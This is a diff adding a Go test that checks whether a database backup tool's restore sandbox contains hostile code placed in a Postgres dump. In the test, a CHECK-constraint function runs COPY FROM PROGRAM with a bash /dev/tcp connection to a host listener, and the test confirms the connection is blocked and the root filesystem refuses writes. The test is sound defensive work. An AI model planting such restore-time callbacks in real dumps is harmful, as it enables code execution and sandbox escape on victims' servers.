@@ -1,0 +1,111 @@
+package docker_test
+
+import (
+	"context"
+	"fmt"
+	"net"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync/atomic"
+	"testing"
+
+	"github.com/moby/moby/client"
+
+	"github.com/backproof/backproof/engine"
+	"github.com/backproof/backproof/engine/postgres"
+	"github.com/backproof/backproof/internal/testenv"
+)
+
+// hostListener listens on the host's address on Docker's default bridge,
+// the address a container on that bridge reaches the host by (only
+// containers reach it), and counts the connections it accepts.
+func hostListener(t *testing.T, e *env) (addr string, accepted *atomic.Int32) {
+	t.Helper()
+	res, err := e.cli.NetworkInspect(context.Background(), "bridge", client.NetworkInspectOptions{})
+	if err != nil || len(res.Network.IPAM.Config) == 0 || !res.Network.IPAM.Config[0].Gateway.IsValid() {
+		testenv.Unavailable(t, "no default bridge gateway to listen on: %v", err)
+	}
+	ln, err := net.Listen("tcp", net.JoinHostPort(res.Network.IPAM.Config[0].Gateway.String(), "0"))
+	if err != nil {
+		testenv.Unavailable(t, "listen on the default bridge's gateway: %v", err)
+	}
+	t.Cleanup(func() { ln.Close() })
+	accepted = &atomic.Int32{}
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			accepted.Add(1)
+			c.Close()
+		}
+	}()
+	return ln.Addr().String(), accepted
+}
+
+// A restored dump's code runs in the sandbox's server: here a CHECK
+// constraint whose function, as the superuser restoring it, runs a program
+// that connects to a listener on the host. The sandbox has no route to it,
+// and its root filesystem takes no writes outside the server's volume and
+// tmpfs.
+func TestSandboxContainsRestoredCode(t *testing.T) {
+	e := newEnv(t)
+	ctx := context.Background()
+	addr, accepted := hostListener(t, e)
+	host, port, _ := net.SplitHostPort(addr)
+
+	// The source: the function does nothing there, only in the sandbox's
+	// database ("backproof").
+	src := testenv.NewPostgresDB(t)
+	testenv.Exec(t, src, fmt.Sprintf(`
+CREATE TABLE escape (result text);
+CREATE FUNCTION phone_home(v int) RETURNS boolean LANGUAGE plpgsql AS $f$
+BEGIN
+  IF current_database() = 'backproof' THEN
+    EXECUTE $c$COPY public.escape FROM PROGRAM 'bash -c "(exec 3<>/dev/tcp/%s/%s && echo reached) 2>/dev/null || echo blocked"'$c$;
+  END IF;
+  RETURN true;
+END $f$;
+CREATE TABLE orders (id int PRIMARY KEY CHECK (phone_home(id)));
+INSERT INTO orders VALUES (1);`, host, port))
+	dump := filepath.Join(t.TempDir(), "dump.pgdump")
+	f, err := os.Create(dump)
+	if err != nil {
+		t.Fatal(err)
+	}
+	eng := postgres.New(src, postgres.WithBinDirs(testenv.PostgresBin(t)))
+	info, err := eng.Dump(ctx, f)
+	f.Close()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	spec, srv := e.spec(t)
+	inst := e.start(t, spec)
+	srv.Host, srv.Port = inst.Addr()
+	if err := eng.Restore(ctx, srv, dump, info, engine.RestoreOptions{Jobs: 1}); err != nil {
+		t.Fatalf("restore: %v", err)
+	}
+	conn := connect(t, inst, srv)
+	var result string
+	if err := conn.QueryRow(ctx, "SELECT string_agg(result, ',') FROM escape").Scan(&result); err != nil {
+		t.Fatal(err)
+	}
+	if result != "blocked" || accepted.Load() != 0 {
+		t.Errorf("the restored dump's program: %q, host listener at %s accepted %d connections; want blocked, none", result, addr, accepted.Load())
+	}
+
+	// Writes: the root filesystem refuses them; /tmp (tmpfs) and the data
+	// volume take them.
+	_, err = conn.Exec(ctx, "COPY (SELECT 1) TO '/var/lib/postgresql/outside'")
+	if err == nil || !strings.Contains(err.Error(), "Read-only file system") {
+		t.Errorf("write to the root filesystem: %v, want Read-only file system", err)
+	}
+	for _, path := range []string{"/tmp/inside", "/var/lib/postgresql/data/inside"} {
+		if _, err := conn.Exec(ctx, "COPY (SELECT 1) TO '"+path+"'"); err != nil {
+			t.Errorf("write to %s: %v", path, err)
+		}
+	}
+}
